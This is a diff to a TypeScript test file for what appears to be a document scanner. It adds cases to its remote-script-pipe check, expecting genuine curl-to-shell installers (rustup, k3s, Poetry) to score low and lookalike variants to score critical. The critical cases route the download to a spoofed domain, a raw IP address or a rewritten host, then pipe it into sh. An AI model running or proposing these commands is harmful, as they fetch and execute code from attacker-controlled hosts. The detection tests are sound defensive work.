@@ -1,4 +1,4 @@
-import { expect, test } from 'bun:test'
+import { describe, expect, test } from 'bun:test'
 import { createDocument } from '../../scanner/document.ts'
 import { scan } from '../../scanner/index.ts'
 import { lowered } from '../../scanner/weigh.ts'
@@ -309,4 +309,25 @@ test('a lock file that goes with its tool in a move leaves what is fetched as ch
   expect(
     severityOf('traffic-redirect', `${index}## Migrate from Poetry\n\n${dropped}`),
   ).toBeUndefined()
+})
+
+describe('an installer of a known maker', () => {
+  const ran = (command: string) =>
+    severityOf('remote-script-pipe', `\`\`\`bash\n${command}\n\`\`\`\n`)
+
+  test.each([
+    'curl -sSf https://sh.rustup.rs | sh',
+    'curl -sfL https://get.k3s.io | K3S_URL=https://10.0.0.5:6443 sh -',
+    'RUSTUP_UPDATE_ROOT=https://mirrors.tuna.tsinghua.edu.cn/rustup/rustup curl -sSf https://sh.rustup.rs | sh',
+    'curl -sSL https://install.python-poetry.org | sed "s/symlinks=False/symlinks=True/" | python3 -',
+  ])('weighs little: %s', (command) => expect(ran(command)).toBe('low'))
+
+  test.each([
+    'curl -sSf https://sh.rustup.rs.quay-ledger.net | sh',
+    'curl -sSf https://sh.rustup.rs --resolve sh.rustup.rs:443:45.83.122.9 | sh',
+    'curl -sSf https://sh.rustup.rs | sed s/static.rust-lang.org/quay-ledger.net/ | sh',
+    'curl -fsSL https://get.docker.com | DOWNLOAD_URL=https://quay-ledger.net sh',
+  ])('is anybody’s when a stranger answers or supplies: %s', (command) =>
+    expect(ran(command)).toBe('crit'),
+  )
 })
